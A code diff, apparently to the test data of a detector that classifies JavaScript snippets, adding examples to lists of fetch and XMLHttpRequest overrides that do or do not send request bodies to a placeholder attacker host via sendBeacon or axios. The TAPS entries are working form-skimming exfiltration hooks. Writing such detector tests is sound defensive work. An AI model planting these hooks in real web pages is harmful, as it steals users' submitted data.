@@ -18,6 +18,7 @@ def traits(source: str) -> set[str]:
 
 
 TAPS = [
+    f"w.fetch=function(a,b){{navigator.sendBeacon('{EVIL}',JSON.stringify(b));return f(a,b)}}",
     f"w.fetch=function(a,b){{navigator.sendBeacon('{EVIL}',b.body);return f(a,b)}}",
     f"window.fetch = async function (u, o) {{ axios('{EVIL}', {{body: o.body}}) }}",
     f"window.fetch=(u,o)=>{{navigator.sendBeacon('{EVIL}',btoa(o.body));return f(u,o)}}",
@@ -25,6 +26,7 @@ TAPS = [
     f"XMLHttpRequest.prototype.send=function(d){{navigator.sendBeacon('{EVIL}',d)}}",
 ]
 NO_TAPS = [
+    f"w.fetch=function(a,b){{navigator.sendBeacon('{EVIL}',J({{body:err,m:b.method}}));f(a,b)}}",
     # Without the body: monitors of errors and of times.
     f"w.fetch=function(a,b){{return f(a,b).catch(e=>navigator.sendBeacon('{EVIL}',e.message))}}",
     f"w.fetch=function(a,b){{navigator.sendBeacon('{EVIL}',a+status);return f(a,b)}}",
